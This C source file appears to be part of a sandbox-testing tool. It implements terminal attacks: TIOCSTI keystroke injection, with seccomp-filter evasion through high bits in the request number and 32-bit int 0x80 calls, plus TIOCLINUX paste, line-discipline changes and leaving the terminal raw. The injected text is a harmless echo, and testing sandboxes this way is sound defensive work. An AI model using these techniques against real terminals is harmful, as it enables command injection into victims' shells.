/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Attacks on the caller's terminal: typing into its input, pasting, changing its modes. */
#include "config.h"

#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

#include "i386.h"

/* What is typed; scene(1) looks for any input at all. */
static const char typed[] = "echo typed by the payload\n";

/* A descriptor of a terminal: of those that we were given, or by its own name. */
static int
find_terminal(void)
{
	for (int fd = 0; fd <= 2; fd++)
		if (isatty(fd))
			return fd;
	return open("/dev/tty", O_RDWR);
}

/* By a raw call, so that all 64 bits of the request arrive. */
static int
type_all(unsigned long request)
{
	int fd = find_terminal();

	if (fd < 0)
		return untried("no terminal");
	for (size_t i = 0; i < sizeof(typed) - 1; i++)
		if (syscall(SYS_ioctl, fd, request, &typed[i]) < 0)
			return stopped("ioctl(TIOCSTI)");
	return worked("ioctl(TIOCSTI)");
}

static int
run_tiocsti(char **argv)
{
	(void)argv;
	return type_all(TIOCSTI);
}

/* The kernel looks at the low 32 bits of the request only: a filter that compares all 64 misses this. */
static int
run_tiocsti_high(char **argv)
{
	(void)argv;
	return type_all(TIOCSTI | 0xdead00000000UL);
}

static int
run_tiocsti_i386(char **argv)
{
#ifdef HAVE_I386
	int fd = find_terminal();
	char *low = i386_memory();

	(void)argv;
	if (fd < 0 || !low)
		return untried("no terminal, or no memory below 4 GiB");
	for (size_t i = 0; i < sizeof(typed) - 1; i++) {
		long r;

		*low = typed[i];
		r = i386_call(54, (uint32_t)fd, TIOCSTI, (uint32_t)(uintptr_t)low);
		if (r < 0) {
			errno = (int)-r;
			return stopped("ioctl(TIOCSTI) by int 0x80");
		}
	}
	return worked("ioctl(TIOCSTI) by int 0x80");
#else
	(void)argv;
	errno = ENOSYS;
	return untried("no 32-bit calls here");
#endif
}

/* Through the name of the controlling terminal, in case the descriptors were taken away and the terminal was not. */
static int
run_tiocsti_devtty(char **argv)
{
	int fd = open("/dev/tty", O_RDWR);

	(void)argv;
	if (fd < 0)
		return stopped("open(/dev/tty)");
	for (size_t i = 0; i < sizeof(typed) - 1; i++)
		if (ioctl(fd, TIOCSTI, &typed[i]) < 0)
			return stopped("ioctl(TIOCSTI) on /dev/tty");
	return worked("ioctl(TIOCSTI) on /dev/tty");
}

/* A pty is no virtual console, so outside this gives ENOTTY: the attack is to get past the filter to the driver. */
static int
run_tioclinux(char **argv)
{
	char subcode = 3; /* TIOCL_PASTESEL */
	int fd = find_terminal();

	(void)argv;
	if (fd < 0)
		return untried("no terminal");
	if (ioctl(fd, TIOCLINUX, &subcode) < 0 && errno != ENOTTY && errno != EINVAL)
		return stopped("ioctl(TIOCLINUX)");
	return worked("ioctl(TIOCLINUX) reached the driver");
}

static int
run_tiocsetd(char **argv)
{
	int fd = find_terminal(), discipline;

	(void)argv;
	/* The one that it has: nothing changes, and what matters is that it was allowed. */
	if (fd < 0 || ioctl(fd, TIOCGETD, &discipline) < 0)
		return untried("no terminal");
	if (ioctl(fd, TIOCSETD, &discipline) < 0)
		return stopped("ioctl(TIOCSETD)");
	return worked("ioctl(TIOCSETD)");
}

/* Leaves the terminal as a careless or hostile program does: raw, without echo. */
static int
run_modes(char **argv)
{
	struct termios modes;
	int fd = find_terminal();

	(void)argv;
	if (fd < 0 || tcgetattr(fd, &modes) < 0)
		return untried("no terminal");
	cfmakeraw(&modes);
	modes.c_lflag &= ~(tcflag_t)ECHO;
	if (tcsetattr(fd, TCSANOW, &modes) < 0)
		return stopped("tcsetattr");
	return worked("tcsetattr");
}

const struct attack terminal_attacks[] = {
	{ "tiocsti", "", 0, run_tiocsti },
	{ "tiocsti-high", "", 0, run_tiocsti_high },
	{ "tiocsti-i386", "", 0, run_tiocsti_i386 },
	{ "tiocsti-devtty", "", 0, run_tiocsti_devtty },
	{ "tioclinux", "", 0, run_tioclinux },
	{ "tiocsetd", "", 0, run_tiocsetd },
	{ "modes", "", 0, run_modes },
	{ 0 },
};
